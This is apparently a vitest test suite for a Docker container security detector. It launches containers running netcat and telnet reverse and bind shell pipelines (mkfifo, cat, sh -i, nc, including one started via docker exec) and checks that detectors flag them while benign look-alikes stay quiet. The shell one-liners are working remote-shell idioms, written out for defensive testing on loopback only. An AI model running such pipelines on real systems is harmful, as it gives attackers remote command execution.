import type Docker from 'dockerode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runDetectors, type DetectionResult } from '../../electron/engine/detect/run-detectors.js';
import { severityRank, type Finding } from '@shared/domain/finding.js';
import type { EngineEvidence } from '@shared/domain/evidence-set.js';
import { removeSuite } from '../helpers/docker.js';
import { collect, execIn, script, sleep, start, startAll } from './harness.js';
import { reportScores, score, type Scenario } from './scores.js';

/**
 * Netcat pipelines, where the shell never holds the socket: nc (or telnet) holds the connection or the listener
 * and the shell is joined to it by pipes or a named pipe. Every listener and client is on loopback inside the
 * container's own network namespace (the engine's default bridge is replaced by `--network none` in the harness).
 * Some pipelines are the container's own command, one is started by `docker exec` into a clean container.
 */
const SUITE = 'detect-scenarios-pipelines';
const c: Record<string, Docker.Container> = {};
let evidence: EngineEvidence;
let result: DetectionResult;

const findingsFor = (key: string): Finding[] =>
  [...result.findings, ...result.suppressed].filter((f) => f.container?.id === c[key]!.id);
/**
 * A listener on loopback that keeps its connection open and discards what it receives. busybox nc ends a
 * connection when its stdin ends, so listeners and clients whose stdin would be /dev/null read a sleeping pipe, as
 * they would read an exploit's open stdin.
 */
const listener = (port: number) => `(sleep 3600 | nc -l -p ${port} >/dev/null) & sleep 0.3`;

const SCENARIOS: Scenario[] = [
  {
    detector: 'shell-pipeline',
    malicious: ['fifoCat', 'fifoRedirect', 'bindPipe', 'twoPorts', 'telnetPipe', 'execPipeline'],
    benign: ['grepTee', 'devServer', 'serverLogLoop', 'metricsPush'],
  },
  {
    detector: 'command-override',
    malicious: ['fifoCat', 'fifoRedirect', 'bindPipe', 'twoPorts', 'telnetPipe'],
    benign: ['grepTee', 'devServer', 'serverLogLoop', 'metricsPush'],
  },
];

beforeAll(async () => {
  await removeSuite(SUITE);
  const since = new Date(Date.now() - 1000);
  const runs = {
    // The classic mkfifo idiom: nc writes the attacker's input into the fifo, cat feeds it to sh -i, sh's output goes to nc.
    fifoCat: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        `${listener(4444)}; rm -f /tmp/f; mkfifo /tmp/f; (cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f) &`,
      ),
    }),
    // The same without cat: the shell reads the fifo on stdin.
    fifoRedirect: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        `${listener(4445)}; mkdir -p /var/tmp; mkfifo /var/tmp/.p; (sh -i < /var/tmp/.p 2>&1 | nc 127.0.0.1 4445 > /var/tmp/.p) &`,
      ),
    }),
    // A bind shell one way: whatever connects to the listener is run by sh.
    bindPipe: start({ suite: SUITE, ready: true, cmd: script('(nc -l -p 4446 | sh >/dev/null 2>&1) &') }),
    // Two connections, no fifo: commands in on one port, output out on another.
    twoPorts: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        `${listener(4447)}; (sleep 3600 | nc -ll -p 4448 >/dev/null) & sleep 0.3; (sleep 3600 | nc 127.0.0.1 4447 | sh 2>&1 | nc 127.0.0.1 4448) &`,
      ),
    }),
    // Another network tool in the same place.
    telnetPipe: start({
      suite: SUITE,
      ready: true,
      cmd: script(`${listener(4449)}; (sleep 3600 | telnet 127.0.0.1 4449 | sh >/dev/null 2>&1) &`),
    }),
    // A clean container; the pipeline arrives through docker exec.
    execPipeline: start({ suite: SUITE }),
    // Look-alikes: a shell piping to grep and tee, a dev server whose output is teed, a shell loop reading a server's
    // output as data, and a loop pushing metrics with nc (reported low at most).
    grepTee: start({
      suite: SUITE,
      ready: true,
      cmd: script('(while :; do date; sleep 1; done | grep -v never | tee /tmp/out.log >/dev/null) &'),
    }),
    devServer: start({
      suite: SUITE,
      ready: true,
      cmd: script('mkdir -p /www; (httpd -f -v -p 127.0.0.1:8080 -h /www 2>&1 | tee /tmp/access.log >/dev/null) &'),
    }),
    serverLogLoop: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        'mkdir -p /www; (httpd -f -v -p 127.0.0.1:8081 -h /www 2>&1 | sh -c "while read l; do echo \\"$l\\" >> /tmp/h.log; done") &',
      ),
    }),
    metricsPush: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        '(sleep 3600 | nc -ll -p 2003 >/dev/null) & sleep 0.3; (while :; do echo "app.up 1 $(date +%s)"; sleep 1; done | nc 127.0.0.1 2003) &',
      ),
    }),
  };
  Object.assign(c, await startAll(runs));
  await execIn(c.execPipeline!, [
    'sh',
    '-c',
    `${listener(4450)}; mkfifo /tmp/.s; (cat /tmp/.s | sh -i 2>&1 | nc 127.0.0.1 4450 > /tmp/.s) & sleep 0.5`,
  ]);
  await sleep(800);
  evidence = await collect(
    Object.values(c).map((x) => x.id),
    since,
  );
  result = runDetectors(evidence);
}, 120_000);

afterAll(async () => {
  if (result) reportScores(SUITE, score(SCENARIOS, findingsFor));
  await removeSuite(SUITE);
});

describe('netcat pipelines (real dockerd, host /proc fd links)', () => {
  for (const s of SCENARIOS) {
    for (const key of s.malicious) {
      it(`${s.detector} fires on ${key}`, () => {
        const hits = findingsFor(key).filter((f) => f.detector === s.detector);
        expect(hits, JSON.stringify(findingsFor(key).map((f) => [f.detector, f.severity, f.summary]))).not.toEqual([]);
      });
    }
  }
  for (const key of ['grepTee', 'devServer', 'serverLogLoop', 'metricsPush']) {
    it(`nothing at medium or above on the look-alike ${key}`, () => {
      const loud = findingsFor(key).filter(
        (f) => severityRank(f.severity) >= severityRank('medium') && !f.suppressedBy,
      );
      expect(loud.map((f) => `${f.detector}: ${f.summary}`)).toEqual([]);
    });
  }

  it('names the whole mkfifo pipeline: nc → cat → sh in, sh → nc out, with the connection', () => {
    const f = findingsFor('fifoCat').find((x) => x.detector === 'shell-pipeline')!;
    expect(f.severity).toBe('critical');
    expect(f.summary).toMatch(
      /reads its commands from nc connected to 127\.0\.0\.1:4444, through pipes nc\(\d+\) → cat\(\d+\) → sh\(\d+\), and its output goes back through sh\(\d+\) → nc\(\d+\)/,
    );
    expect(f.evidence.find((e) => e.kind === 'socket')?.excerpt).toMatch(/^ESTABLISHED/);
    expect(findingsFor('bindPipe').find((x) => x.detector === 'shell-pipeline')?.summary).toMatch(
      /listening on \S+:4446/,
    );
  });

  it('the exec-started pipeline is caught live although the container command is clean', () => {
    expect(findingsFor('execPipeline').filter((f) => f.detector === 'command-override')).toEqual([]);
    expect(findingsFor('execPipeline').find((f) => f.detector === 'shell-pipeline')?.severity).toBe('critical');
  });

  it('the metrics loop is reported low, as output pushed without commands coming back', () => {
    expect(
      findingsFor('metricsPush')
        .filter((f) => f.detector === 'shell-pipeline')
        .map((f) => f.severity),
    ).toEqual(['low']);
  });
});
